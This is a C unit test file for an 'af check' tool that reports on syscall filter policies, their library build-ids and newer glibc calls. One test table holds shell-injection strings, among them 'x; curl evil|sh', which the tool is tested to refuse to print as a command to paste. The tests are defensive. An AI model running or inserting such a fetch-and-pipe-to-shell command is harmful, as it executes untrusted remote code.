// SPDX-License-Identifier: LGPL-2.1-or-later
/* af check: what it says of a policy and of its files, as text and as JSON. */
#define _GNU_SOURCE
#include <check.h>
#include <elf.h>
#include <jansson.h>
#include <limits.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/stat.h>

#include "verb.h"

/* The smallest file that is taken for a library: text, and maybe a build-id. */
struct elf_file {
	Elf64_Ehdr ehdr;
	Elf64_Phdr phdr[2];
	Elf64_Nhdr note;
	char owner[4];
	uint8_t id[4];
	uint8_t text[16];
};

static char dir[PATH_MAX];
static json_t *json;

static void setup(void)
{
	verb_setup();
	ck_assert_ptr_nonnull(getcwd(dir, sizeof(dir)));
}

static void teardown(void)
{
	json_decref(json);
	json = NULL;
	verb_teardown();
}

/* @id: its build-id; 0 for none */
static void write_elf(const char *name, uint32_t id)
{
	struct elf_file file = {
		.ehdr = {
			.e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3,
				     ELFCLASS64, ELFDATA2LSB, EV_CURRENT },
			.e_type = ET_DYN,
			.e_machine = EM_X86_64,
			.e_version = EV_CURRENT,
			.e_phoff = offsetof(struct elf_file, phdr),
			.e_ehsize = sizeof(file.ehdr),
			.e_phentsize = sizeof(*file.phdr),
			.e_phnum = id ? 2 : 1,
		},
		.phdr = { {
			.p_type = PT_LOAD,
			.p_flags = PF_R | PF_X,
			.p_filesz = sizeof(file),
			.p_memsz = sizeof(file),
			.p_align = 4096,
		}, {
			.p_type = PT_NOTE,
			.p_offset = offsetof(struct elf_file, note),
			.p_filesz = offsetof(struct elf_file, text) -
				    offsetof(struct elf_file, note),
			.p_align = 4,
		} },
		.note = { 4, sizeof(file.id), NT_GNU_BUILD_ID },
		.owner = "GNU",
		.id = { id >> 24, id >> 16, id >> 8, id },
	};

	write_bytes(name, &file, sizeof(file));
	ck_assert_int_eq(chmod(name, 0755), 0);
}

/* A policy in p.af: @format, with the test's directory for each %s. */
static void write_policy(const char *format)
{
	FILE *out = fopen("p.af", "we");

	ck_assert_ptr_nonnull(out);
	for (; *format; format++) {
		if (format[0] == '%' && format[1] == 's') {
			fputs(dir, out);
			format++;
		} else {
			fputc(*format, out);
		}
	}
	ck_assert_int_eq(fclose(out), 0);
}

static int check(char *option, char *program)
{
	if (option)
		return verb(af_check, "check", option, "p.af", program, NULL);
	return verb(af_check, "check", "p.af", program, NULL);
}

static void check_json(int status, char *program)
{
	ck_assert_int_eq(verb(af_check, "check", "--json", "p.af", program,
			      NULL),
			 status);
	ck_assert_str_eq(verb_err, "");
	json_decref(json);
	json = json_loads(verb_out, JSON_REJECT_DUPLICATES, NULL);
	ck_assert_ptr_nonnull(json);
}

static bool says(const char *format, ...)
{
	char line[PATH_MAX + 256];
	va_list args;

	va_start(args, format);
	vsnprintf(line, sizeof(line), format, args);
	va_end(args);
	return strstr(verb_out, line);
}

static const char *text_of(const json_t *value, const char *key)
{
	const char *text = json_string_value(json_object_get(value, key));

	return text ? text : "";
}

static json_t *caller(const char *name)
{
	json_t *callers = json_object_get(json, "callers"), *value;
	size_t i;

	json_array_foreach(callers, i, value)
	{
		if (!strcmp(text_of(value, "name"), name))
			return value;
	}
	return NULL;
}

/* Of the only file of a caller, whose path is in the test's directory. */
static json_t *file_of(const char *name)
{
	char path[PATH_MAX + 64];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	return json_array_get(json_object_get(caller(path), "files"), 0);
}

START_TEST(test_kernel_alone) {
	int status = verb(af_check, "check", NULL);

	ck_assert(says("kernel: tells filters the previous call: "));
	ck_assert_int_eq(verb(af_check, "check", "--json", NULL), status);
	json = json_loads(verb_out, 0, NULL);
	ck_assert_int_eq(json_is_true(json_object_get(
				 json_object_get(json, "kernel"), "enforces")),
			 status == 0);
	ck_assert_uint_eq(json_object_size(json), 1);
}
END_TEST

START_TEST(test_all_files_that_are_missing_are_said) {
	write_policy("library libno-such-1.so { read }\n"
		     "optional library libno-such-2.so { read }\n"
		     "library %s/no-such-3.so { read }\n"
		     "program /no-such/4 { write }\n"
		     "transparent libno-such-5.so\n");
	ck_assert_int_eq(check(NULL, NULL), AF_FAILED);
	ck_assert(strstr(verb_err, "af: p.af:1:9: libno-such-1.so: library "
				   "not found\naf: hint: install it"));
	ck_assert(!strstr(verb_err, "no-such-2"));
	ck_assert(strstr(verb_err, "no-such-3.so: no such file\naf: hint: "
				   "install it, or begin its block with "
				   "`optional`\n"));
	/* Which cannot be said of a program. */
	ck_assert(strstr(verb_err, "af: p.af:4:9: /no-such/4: no such file\n"
				   "af: hint: install it, or remove its "
				   "block\n"));
	ck_assert(strstr(verb_err, "libno-such-5.so: library not found"));
	ck_assert(says("p.af: files are missing; "));
	ck_assert(says("  libno-such-1.so: 1 call, missing\n"));
	ck_assert(says("  libno-such-2.so: 1 call\n"));
	ck_assert(says("  libno-such-5.so: 0 calls, transparent, missing\n"));
}
END_TEST

START_TEST(test_calls_are_counted_once_if_they_can_be_made) {
	write_policy("common { futex\nmount then errno EPERM }\n"
		     "program { openat if arg1 == 1\nopenat if arg1 == 2\n"
		     "mount then errno EPERM\nfutex }\n");
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert(says("  program: 2 calls\n"));
}
END_TEST

START_TEST(test_an_error_without_a_place_has_none_in_json) {
	json_t *error;

	check_json(AF_FAILED, NULL);
	error = json_array_get(json_object_get(json, "errors"), 0);
	ck_assert(json_is_null(json_object_get(error, "line")));
	ck_assert(json_is_null(json_object_get(error, "column")));
}
END_TEST

START_TEST(test_missing_files_are_errors_in_json) {
	json_t *errors;

	write_policy("library libno-such-1.so { read }\n"
		     "optional library libno-such-2.so { read }\n"
		     "library %s/no-such-3.so { read }\n");
	check_json(AF_FAILED, NULL);
	errors = json_object_get(json, "errors");
	ck_assert_uint_eq(json_array_size(errors), 2);
	ck_assert_str_eq(text_of(json_array_get(errors, 0), "text"),
			 "libno-such-1.so: library not found");
	ck_assert_int_eq(json_integer_value(json_object_get(
				 json_array_get(errors, 1), "line")),
			 3);
	ck_assert(json_is_true(
		json_object_get(caller("libno-such-1.so"), "missing")));
	ck_assert(json_is_false(
		json_object_get(caller("libno-such-2.so"), "missing")));
	ck_assert(json_is_true(
		json_object_get(caller("libno-such-2.so"), "optional")));
}
END_TEST

START_TEST(test_error_in_the_policy) {
	json_t *error;

	write_policy("program { opneat }\n");
	ck_assert_int_eq(check(NULL, NULL), AF_FAILED);
	ck_assert(strstr(verb_err, "af: p.af:1:11: unknown system call"));
	ck_assert(says("kernel: ") && !says("p.af"));
	check_json(AF_FAILED, NULL);
	error = json_array_get(json_object_get(json, "errors"), 0);
	ck_assert_str_eq(text_of(error, "file"), "p.af");
	ck_assert_int_eq(json_integer_value(json_object_get(error, "column")),
			 11);
	ck_assert_str_eq(text_of(error, "hint"), "did you mean `openat`?");
	ck_assert_ptr_null(json_object_get(json, "callers"));
}
END_TEST

START_TEST(test_program_that_is_not_there) {
	const json_t *error;

	write_text("p.af", "program { read }\n");
	check_json(AF_FAILED, "no-such-program");
	error = json_array_get(json_object_get(json, "errors"), 0);
	ck_assert_str_eq(text_of(error, "file"), "no-such-program");
	ck_assert_str_eq(text_of(error, "text"), "No such file or directory");
	ck_assert_ptr_nonnull(strstr(text_of(error, "hint"), "not in PATH"));
	ck_assert_ptr_null(json_object_get(json, "callers"));

	check_json(AF_OK, "true");
	ck_assert_uint_eq(json_array_size(json_object_get(json, "errors")), 0);
	ck_assert_ptr_nonnull(json_object_get(json, "callers"));
}
END_TEST

START_TEST(test_policy_that_is_not_there) {
	check_json(AF_FAILED, NULL);
	ck_assert_uint_eq(json_array_size(json_object_get(json, "errors")), 1);
}
END_TEST

static void write_recorded(void)
{
	write_elf("same.so", 0x11223344);
	write_elf("changed.so", 0x55667788);
	write_elf("stripped.so", 0);
	write_elf("other.so", 0x99aabbcc);
	write_elf("bare.so", 0);
	write_policy("# Recorded by: af record -- prog 'an argument'\n"
		     "#: %s/same.so build-id 11223344\n"
		     "#: %s/changed.so build-id 00000000\n"
		     "#: %s/stripped.so build-id 0123\n"
		     "library %s/same.so { read }\n"
		     "library %s/changed.so { read }\n"
		     "library %s/stripped.so { read }\n"
		     "library %s/other.so { read }\n"
		     "library %s/bare.so { read }\n");
}

START_TEST(test_builds_are_compared_with_those_recorded) {
	write_recorded();
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert_str_eq(verb_err, "");
	ck_assert(says("    %s/same.so\n    build: as recorded\n", dir));
	ck_assert(
		says("    %s/changed.so\n    warning: it has changed since it "
		     "was recorded: build-id 00000000, now 55667788\n",
		     dir));
	ck_assert(says("    %s/stripped.so\n    warning: it has changed since "
		       "it was recorded: build-id 0123, now none\n",
		       dir));
	ck_assert(says("    %s/other.so\n    build: not recorded\n", dir));
	ck_assert(says("    %s/bare.so\n    build: it has no build-id", dir));
	ck_assert(
		says("builds: 2 files have changed; to add what is new, record "
		     "again:\n\taf record -o p.af -- prog 'an argument'\n"));
}
END_TEST

/* What a policy says that it was recorded with, and what is printed of it. */
static const struct {
	const char *command;
	bool printed;
} commands[] = {
	{ "a -b=c '' 'd e' 'don'\\''t' '$(f)'", true },
	{ "'a'\\'''", true },
	{ "x; curl evil|sh", false },
	{ "x $(y)", false },
	{ "x 'y' >z", false },
	{ "x 'y", false },
	{ "x 'y'z", false },
	{ "x'y'", false },
	{ "x \\''y'", false },
	{ "x [...]", false },
	{ "x ", false },
};

START_TEST(test_command_is_printed_if_it_is_nothing_more) {
	char *policy, *want;

	write_elf("a.so", 0x11223344);
	ck_assert_int_gt(asprintf(&policy,
				  "# Recorded by: af record -- %s\n"
				  "#: %%s/a.so build-id 00\n"
				  "library %%s/a.so { read }\n",
				  commands[_i].command),
			 0);
	ck_assert_int_gt(asprintf(&want, "\taf record -o p.af -- %s\n",
				  commands[_i].printed ? commands[_i].command :
							 "PROGRAM ARGUMENT..."),
			 0);
	write_policy(policy);
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert_msg(strstr(verb_out, want), "%s", verb_out);
	free(policy);
	free(want);
}
END_TEST

START_TEST(test_name_of_a_policy_is_quoted_in_a_command) {
	write_elf("a.so", 0x11223344);
	write_policy("#: %s/a.so build-id 00\n"
		     "library %s/a.so { read }\n");
	ck_assert_int_eq(rename("p.af", "p; q.af"), 0);
	ck_assert_int_eq(verb(af_check, "check", "p; q.af", NULL), AF_OK);
	ck_assert(says("\taf record -o 'p; q.af' -- PROGRAM ARGUMENT...\n"));
}
END_TEST

START_TEST(test_builds_in_json) {
	static const char *const want[][4] = {
		{ "same.so", "same", "11223344", "" },
		{ "changed.so", "changed", "55667788", "00000000" },
		{ "stripped.so", "changed", "", "0123" },
		{ "other.so", "not recorded", "99aabbcc", "" },
		{ "bare.so", "none", "", "" },
	};

	write_recorded();
	check_json(AF_OK, NULL);
	for (size_t i = 0; i < sizeof(want) / sizeof(*want); i++) {
		const json_t *file = file_of(want[i][0]);

		ck_assert_str_eq(text_of(file, "build"), want[i][1]);
		ck_assert_str_eq(text_of(file, "build_id"), want[i][2]);
		ck_assert_str_eq(text_of(file, "recorded"), want[i][3]);
	}
	ck_assert_str_eq(text_of(json, "recorded_by"), "prog 'an argument'");
}
END_TEST

START_TEST(test_change_is_a_failure_if_strict) {
	write_elf("a.so", 0x11223344);
	write_policy("#: %s/a.so build-id 11223344\n"
		     "library %s/a.so { read }\n");
	ck_assert_int_eq(check("--strict", NULL), AF_OK);
	write_elf("a.so", 0x11223345);
	ck_assert_int_eq(check("--strict", NULL), AF_FAILED);
	ck_assert(says("builds: 1 file has changed; "));
	ck_assert(says("\taf record -o p.af -- PROGRAM ARGUMENT...\n"));
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
}
END_TEST

START_TEST(test_policy_that_was_not_recorded_is_not_compared) {
	write_elf("a.so", 0x11223344);
	write_policy("library %s/a.so { read }\n");
	ck_assert_int_eq(check("--strict", NULL), AF_OK);
	ck_assert(!says("    build: "));
	ck_assert(says("builds: none were recorded"));
}
END_TEST

START_TEST(test_program_is_compared_by_its_path) {
	write_elf("prog", 0x11223344);
	write_elf("copy", 0x55667788);
	write_policy("#: %s/prog build-id 11223344\nprogram { read }\n");
	ck_assert_int_eq(check(NULL, "./prog"), AF_OK);
	ck_assert(says("    ./prog\n    build: as recorded\n"));
	/* It is another program, and none that has changed. */
	ck_assert_int_eq(check("--strict", "./copy"), AF_OK);
	ck_assert(says("    ./copy\n    build: not recorded\n"));
	write_elf("prog", 0x11223345);
	ck_assert_int_eq(check("--strict", "./prog"), AF_FAILED);
	/* Nobody says which program it is. */
	ck_assert_int_eq(check("--strict", NULL), AF_OK);
	ck_assert(!says("/exe") && !says("/prog"));
}
END_TEST

START_TEST(test_file_that_everybody_can_write_is_said) {
	write_elf("a.so", 0x11223344);
	ck_assert_int_eq(chmod("a.so", 0777), 0);
	write_policy("library %s/a.so { read }\n");
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert(says("/a.so\n    warning: everybody can write this file\n"));
	check_json(AF_OK, NULL);
	ck_assert(json_is_true(json_object_get(file_of("a.so"), "writable")));
}
END_TEST

START_TEST(test_what_a_newer_c_library_is_denied_is_said) {
	write_policy("transparent libc.so.6\n"
		     "common { getrandom }\n"
		     "program {\nclone\nbrk\nopen\n}\n"
		     "library libc.so.6 { clone set_robust_list }\n");
	ck_assert_int_eq(check("--strict", NULL), AF_OK);
	ck_assert(says("C libraries of these versions, or newer ones, would be "
		       "denied:\n"));
	ck_assert(says("  program, p.af:6: instead of open, glibc 2.26 makes "
		       "openat in open(), fopen(), opendir()\n"));
	ck_assert(says("  program, p.af:4: instead of clone, glibc 2.34 makes "
		       "clone3 in pthread_create(), posix_spawn(), system(), "
		       "popen(); it can do without\n"));
	ck_assert(says("to permit them:\n"
		       "\tprogram { openat clone3 }\n"
		       "\tlibrary libc.so.6 { clone3 rseq }\n"
		       "or, to have the C library do without those that it "
		       "can:\n"
		       "\tcommon { clone3 then errno ENOSYS }\n"
		       "\tcommon { rseq then errno ENOSYS }\n"));
}
END_TEST

/* What is said is to be pasted: then there is no more to be said. */
START_TEST(test_what_is_to_be_added_is_enough) {
	write_policy("transparent libc.so.6\n"
		     "common { rseq then errno ENOSYS }\n"
		     "program { clone open clone3 openat }\n"
		     "library libc.so.6 { clone3 then errno ENOSYS\n"
		     "clone set_robust_list }\n");
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert(!says("glibc"));
	ck_assert(!says("denied"));
}
END_TEST

START_TEST(test_only_c_libraries_newer_than_recorded_are_considered) {
	write_policy("#: libc.so.6 build-id 0123 glibc 2.36\n"
		     "transparent libc.so.6\n"
		     "program { clone newfstatat }\n");
	ck_assert_int_eq(check(NULL, NULL), AF_OK);
	ck_assert(says("a C library newer than glibc 2.36, which was recorded, "
		       "would be denied:\n"
		       "  program, p.af:3: instead of newfstatat, glibc 2.39 "
		       "makes fstat in fstat(), stdio\n"
		       "to permit them:\n"
		       "\tprogram { fstat }\n"));
	ck_assert(!says("clone3"));
}
END_TEST

START_TEST(test_newer_calls_in_json) {
	json_t *newer;

	write_policy("transparent libc.so.6\nprogram { clone getrandom }\n");
	check_json(AF_OK, NULL);
	newer = json_object_get(json, "newer");
	ck_assert_uint_eq(json_array_size(newer), 1);
	newer = json_array_get(newer, 0);
	ck_assert_str_eq(text_of(newer, "block"), "program");
	ck_assert_str_eq(text_of(newer, "call"), "clone3");
	ck_assert_str_eq(text_of(newer, "instead_of"), "clone");
	ck_assert_str_eq(text_of(newer, "glibc"), "2.34");
	ck_assert_str_eq(text_of(newer, "file"), "p.af");
	ck_assert_int_eq(json_integer_value(json_object_get(newer, "line")), 2);
	ck_assert(json_is_true(json_object_get(newer, "falls_back")));
	ck_assert(json_is_true(json_object_get(newer, "has_name")));
}
END_TEST

START_TEST(test_compiled_policy) {
	write_elf("prog", 0x11223344);
	write_policy("program { read }\n");
	ck_assert_int_eq(verb(af_compile_policy, "compile", "-o", "p.afp",
			      "p.af", "./prog", NULL),
			 AF_OK);
	ck_assert_int_eq(rename("p.afp", "p.af"), 0);
	ck_assert_int_eq(check("--strict", NULL), AF_OK);
	ck_assert(says("p.af: compiled, and all files are as they were; "));
	ck_assert(says("/prog\n"));
	ck_assert(!says("build"));
	check_json(AF_OK, NULL);
	ck_assert(json_is_true(json_object_get(json, "compiled")));
	ck_assert(json_is_null(json_object_get(caller("program"), "calls")));
	write_elf("prog", 0x55667788);
	check_json(AF_FAILED, NULL);
	ck_assert_uint_eq(json_array_size(json_object_get(json, "errors")), 1);
}
END_TEST

START_TEST(test_wrong_arguments) {
	ck_assert_int_eq(verb(af_check, "check", "--no-such", NULL), AF_USAGE);
	ck_assert_int_eq(verb(af_check, "check", "a", "b", "c", NULL),
			 AF_USAGE);
	ck_assert_int_eq(verb(af_check, "check", "--help", NULL), AF_OK);
	ck_assert(says("usage: af check "));
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("check");
	TCase *tcase = tcase_create("check");
	SRunner *runner = srunner_create(suite);
	int failed;

	tcase_add_checked_fixture(tcase, setup, teardown);
	tcase_add_test(tcase, test_kernel_alone);
	tcase_add_test(tcase, test_all_files_that_are_missing_are_said);
	tcase_add_test(tcase, test_calls_are_counted_once_if_they_can_be_made);
	tcase_add_test(tcase, test_an_error_without_a_place_has_none_in_json);
	tcase_add_test(tcase, test_missing_files_are_errors_in_json);
	tcase_add_test(tcase, test_error_in_the_policy);
	tcase_add_test(tcase, test_policy_that_is_not_there);
	tcase_add_test(tcase, test_program_that_is_not_there);
	tcase_add_test(tcase, test_builds_are_compared_with_those_recorded);
	tcase_add_loop_test(tcase,
			    test_command_is_printed_if_it_is_nothing_more, 0,
			    sizeof(commands) / sizeof(*commands));
	tcase_add_test(tcase, test_name_of_a_policy_is_quoted_in_a_command);
	tcase_add_test(tcase, test_builds_in_json);
	tcase_add_test(tcase, test_change_is_a_failure_if_strict);
	tcase_add_test(tcase,
		       test_policy_that_was_not_recorded_is_not_compared);
	tcase_add_test(tcase, test_program_is_compared_by_its_path);
	tcase_add_test(tcase, test_file_that_everybody_can_write_is_said);
	tcase_add_test(tcase, test_what_a_newer_c_library_is_denied_is_said);
	tcase_add_test(tcase, test_what_is_to_be_added_is_enough);
	tcase_add_test(
		tcase,
		test_only_c_libraries_newer_than_recorded_are_considered);
	tcase_add_test(tcase, test_newer_calls_in_json);
	tcase_add_test(tcase, test_compiled_policy);
	tcase_add_test(tcase, test_wrong_arguments);
	suite_add_tcase(suite, tcase);
	srunner_run_all(runner, CK_NORMAL);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed != 0;
}
